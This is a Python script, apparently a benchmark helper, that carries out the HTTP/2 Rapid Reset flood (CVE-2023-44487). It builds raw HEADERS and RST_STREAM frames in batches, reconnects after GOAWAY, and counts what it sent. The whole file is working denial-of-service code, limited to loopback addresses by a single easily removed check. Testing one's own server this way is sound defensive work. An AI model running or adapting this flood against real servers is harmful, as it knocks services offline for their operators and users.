"""A rapid reset flood (CVE-2023-44487) for bench/h2.sh: HTTP/2 with prior knowledge to
HOST:PORT, streams opened (HEADERS) and at once reset (RST_STREAM, CANCEL) in batches, a new
connection whenever the server closes one (GOAWAY), for SECONDS. Raw frames, no library; traffic
only to the address given. Prints what it sent and how often it was sent away.

    python3 bench/h2_flood.py 127.0.0.1 5000 10
"""

import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def main() -> None:
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if not host.startswith("127."):
        sys.exit("loopback only")
    authority = f"{host}:{port}".encode()
    # :method GET, :scheme http, :path /home, :authority (literal without indexing, name 1).
    block = b"\x82\x86\x04\x05/home" + b"\x01" + bytes([len(authority)]) + authority
    deadline = time.monotonic() + seconds
    connections = streams = goaways = 0
    while time.monotonic() < deadline:
        try:
            s = socket.create_connection((host, port), timeout=2)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        s.setblocking(False)
        stream = 1
        try:
            s.sendall(PREFACE)
            while time.monotonic() < deadline:
                out = b"".join(
                    frame(0x1, 0x5, sid, block) + frame(0x3, 0x0, sid, (8).to_bytes(4, "big"))
                    for sid in range(stream, stream + 2 * BATCH, 2)
                )
                s.setblocking(True)
                s.sendall(out)
                s.setblocking(False)
                stream += 2 * BATCH
                streams += BATCH
                try:
                    got = s.recv(65536)
                    if not got:
                        break
                    if b"\x07\x00\x00\x00\x00\x00" in got:
                        goaways += 1
                        break
                except BlockingIOError:
                    pass
        except OSError:
            pass
        finally:
            s.close()
    print(f"flood: {streams} streams reset on {connections} connections, {goaways} GOAWAYs seen")


if __name__ == "__main__":
    main()
